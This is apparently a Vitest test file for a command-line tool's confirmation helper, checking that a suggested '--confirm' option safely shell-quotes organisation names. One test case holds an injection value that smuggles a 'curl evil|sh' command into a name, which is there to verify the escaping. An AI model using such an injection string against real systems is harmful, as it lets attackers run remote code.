import { expect, test } from "vitest";
import { Output } from "../../src/output/output.ts";
import type { Session } from "../../src/session.ts";
import type { Input } from "../../src/spec.ts";
import { requireConfirmation } from "../../src/writes/confirm.ts";

const terminal = { isTable: false, isLive: false, canAsk: false, hasColor: false, width: 80 };
const session = { output: new Output(terminal, { isJson: false, isQuiet: false }) } as Session;
const input = { text: () => undefined } as unknown as Input;

const suggestionFor = (name: string) =>
  requireConfirmation(session, input, { names: [name], act: "Offboard", readLost: async () => [] }).catch(
    ({ remedy }: { remedy: string }) => remedy,
  );

test.each([
  ["Acme", "--confirm Acme"],
  ["Acme & Sons", "--confirm 'Acme & Sons'"],
  ["O'Brien'; curl evil|sh; '", String.raw`--confirm 'O'\''Brien'\''; curl evil|sh; '\'''`],
])("the suggested option for the name %s is one word of a shell", async (name, option) => {
  expect(await suggestionFor(name)).toBe(option);
});
